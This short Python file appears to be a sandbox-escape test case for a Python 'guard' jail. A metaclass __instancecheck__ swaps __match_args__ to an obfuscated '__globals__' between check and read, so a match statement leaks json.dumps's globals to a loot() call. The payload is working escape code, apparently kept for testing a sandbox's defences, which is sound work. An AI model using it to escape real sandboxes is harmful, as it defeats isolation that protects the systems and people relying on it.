# aim: change the names while the interpreter asks whether the subject is an instance
# mechanism: __instancecheck__ runs after the names were checked and before they are read
# language: guard
# reason: names that were checked must be the names that are read
# jail: process
# plain: loot

import json


class Anything(type):
    def __instancecheck__(cls, obj):
        cls.__match_args__ = ("__glo" + "bals__",)
        return True


class Pattern(metaclass=Anything):
    __match_args__ = ("__doc__",)


match json.dumps:
    case Pattern(found):
        loot(found)
